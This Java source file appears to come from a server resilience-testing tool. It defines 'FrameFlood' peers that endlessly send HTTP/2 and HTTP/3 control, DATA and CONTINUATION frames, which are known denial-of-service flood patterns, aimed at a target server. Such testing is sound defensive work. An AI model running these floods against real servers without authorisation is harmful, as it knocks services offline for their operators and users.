/* SPDX-License-Identifier: Apache-2.0 */
package org.sbamock.loadgen.attack.peer;

import java.io.IOException;
import java.util.EnumSet;
import java.util.List;
import java.util.Set;
import org.jspecify.annotations.Nullable;
import org.sbamock.http.HttpProtocol;
import org.sbamock.loadgen.attack.wire.AttackSession;
import org.sbamock.loadgen.attack.wire.AttackTarget;
import org.sbamock.loadgen.attack.wire.Http2Frames;
import org.sbamock.loadgen.attack.wire.Http3Frames;
import org.sbamock.loadgen.attack.wire.Octets;
import org.sbamock.loadgen.attack.wire.RawConnection;
import org.sbamock.loadgen.attack.wire.RequestHead;

/** A peer that sends one frame without end, and reads every answer. */
final class FrameFlood implements HostilePeer {
  private static final int BATCH = 1 << 14;
  private static final byte[] NONE = {};

  private final String id;
  private final String description;
  private final Opening opening;
  private final byte[] frame;
  private final byte @Nullable [] overQuic;

  private enum Opening {
    /** Only the connection preface. */
    CONNECTION,
    /** A request whose content is not complete. */
    REQUEST,
    /** A field section that is not complete. */
    FIELD_SECTION
  }

  private FrameFlood(
      String id, String description, Opening opening, byte[] frame, byte @Nullable [] overQuic) {
    this.id = "flood-" + id;
    this.description = description;
    this.opening = opening;
    this.frame = frame;
    this.overQuic = overQuic;
  }

  /** Returns the floods of all frames that cause work and are not limited by flow control. */
  static List<HostilePeer> all() {
    int stream = Streams.id(0);
    return List.of(
        new FrameFlood(
            "ping", "Sends PING frames without end.", Opening.CONNECTION, Http2Frames.ping(), null),
        new FrameFlood(
            "settings",
            "Sends empty SETTINGS frames without end.",
            Opening.CONNECTION,
            Http2Frames.frame(Http2Frames.SETTINGS, 0, 0, NONE),
            null),
        new FrameFlood(
            "window-update",
            "Sends WINDOW_UPDATE frames of one octet for the connection without end.",
            Opening.CONNECTION,
            Http2Frames.windowUpdate(0, 1),
            null),
        new FrameFlood(
            "priority",
            "Sends PRIORITY frames for an idle stream without end.",
            Opening.CONNECTION,
            Http2Frames.frame(Http2Frames.PRIORITY, 0, stream, new byte[] {0, 0, 0, 0, 15}),
            null),
        new FrameFlood(
            "unknown",
            "Sends frames of an unknown type without end.",
            Opening.CONNECTION,
            Http2Frames.frame(Http2Frames.UNKNOWN, 0, 0, NONE),
            Http3Frames.frame(Http3Frames.RESERVED, NONE)),
        new FrameFlood(
            "data",
            "Sends empty DATA frames without end.",
            Opening.REQUEST,
            Http2Frames.frame(Http2Frames.DATA, 0, stream, NONE),
            Http3Frames.frame(Http3Frames.DATA, NONE)),
        new FrameFlood(
            "continuation",
            "Sends CONTINUATION frames with one field each without end.",
            Opening.FIELD_SECTION,
            Http2Frames.frame(
                Http2Frames.CONTINUATION,
                0,
                stream,
                new Octets().octet(0).string("a").string("b").toArray()),
            null));
  }

  @Override
  public String id() {
    return id;
  }

  @Override
  public String description() {
    return description;
  }

  @Override
  public Set<HttpProtocol> protocols() {
    return overQuic == null
        ? EnumSet.of(HttpProtocol.H2C, HttpProtocol.H2)
        : EnumSet.of(HttpProtocol.H2C, HttpProtocol.H2, HttpProtocol.H3);
  }

  @Override
  public void attack(AttackSession session) throws IOException, InterruptedException {
    if (overQuic != null && session.target().protocol().quic()) {
      overQuic(session, Octets.repeat(overQuic, BATCH));
      return;
    }
    byte[] batch = Octets.repeat(frame, BATCH);
    try (RawConnection connection = session.connect()) {
      connection.drain();
      connection.write(Http2Frames.preface(Http2Frames.DEFAULT_WINDOW));
      connection.write(begin(session.target()));
      while (!session.isOver()) {
        connection.write(batch);
      }
    }
  }

  private byte[] begin(AttackTarget target) {
    RequestHead upload = RequestHead.of(target, "POST", AttackTarget.UPLOADS);
    return switch (opening) {
      case CONNECTION -> NONE;
      case REQUEST -> Http2Frames.headers(Streams.id(0), false, upload);
      case FIELD_SECTION ->
          Http2Frames.frame(
              Http2Frames.HEADERS, Http2Frames.END_STREAM, Streams.id(0), upload.hpack());
    };
  }

  private static void overQuic(AttackSession session, byte[] batch)
      throws IOException, InterruptedException {
    RequestHead upload = RequestHead.of(session.target(), "POST", AttackTarget.UPLOADS);
    QuicStreams.repeat(session, Http3Frames.headers(upload), batch);
  }
}
